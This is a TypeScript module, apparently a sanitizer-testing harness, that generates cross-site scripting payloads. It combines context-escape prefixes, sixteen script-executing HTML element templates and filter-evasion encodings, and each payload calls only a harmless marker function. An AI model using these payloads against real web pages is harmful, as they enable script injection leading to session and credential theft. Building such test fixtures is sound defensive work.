/** Every payload that runs calls this function of the page, and every element it creates has this attribute. */
export const RAN = 'payloadRan';
export const CREATED = 'data-payload';

const ESCAPES = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '}}',
  '\\"',
  '&quot;>',
] as const;

/** Elements that run a script when they appear, each in another way. */
const ELEMENTS: readonly ((call: string) => string)[] = [
  (call) => `<script ${CREATED}>${call}</script>`,
  (call) => `<img ${CREATED} src=x onerror=${call}>`,
  (call) => `<svg ${CREATED} onload=${call}></svg>`,
  (call) => `<svg><animate ${CREATED} onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<details ${CREATED} open ontoggle=${call}>x</details>`,
  (call) => `<input ${CREATED} autofocus onfocus=${call}>`,
  (call) => `<video ${CREATED}><source onerror=${call}></video>`,
  (call) => `<iframe ${CREATED} srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe ${CREATED} src="javascript:parent.${call}"></iframe>`,
  (call) => `<object ${CREATED} data="javascript:${call}"></object>`,
  (call) => `<a ${CREATED} href="javascript:${call}">x</a>`,
  (call) => `<form ${CREATED} action="javascript:${call}"><button>x</button></form>`,
  (call) => `<math><mtext ${CREATED}><style><img src=x onerror=${call}></style></mtext></math>`,
  (call) => `<body ${CREATED} onpageshow=${call}>`,
  (call) => `<style ${CREATED} onload=${call}></style>`,
  (call) => `<link ${CREATED} rel=stylesheet href="data:text/css,x" onload=${call}>`,
];

/** How filters are passed: letter case, spaces, encodings, and templates of other engines. */
const DISGUISES: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replace(/<(\w+)/g, (_tag, name: string) => `<${name.toUpperCase()}`),
  (markup) => markup.replaceAll(' ', '/'),
  (markup) => markup.replaceAll(' ', '\t\n'),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '\\u003c'),
  (markup) => markup.replaceAll('<', '%3C'),
  (markup) => `{{constructor.constructor('${markup}')()}}`,
];

/** Distinct texts that would run a script in a page that puts them into its markup. */
export function scriptPayloads(count: number): string[] {
  const payloads = new Set<string>();
  for (let number = 0; payloads.size < count; number += 1) {
    // Steps without a common divisor walk through all combinations of the three lists.
    const element = ELEMENTS[number % ELEMENTS.length];
    const disguise = DISGUISES[Math.floor(number / ELEMENTS.length) % DISGUISES.length];
    const ending = ESCAPES[Math.floor(number / 3) % ESCAPES.length];
    if (element === undefined || disguise === undefined || ending === undefined) break;
    payloads.add(`${ending}${disguise(element(`${RAN}(${number % 7 === 0 ? number : ''})`))}`);
  }
  return [...payloads];
}
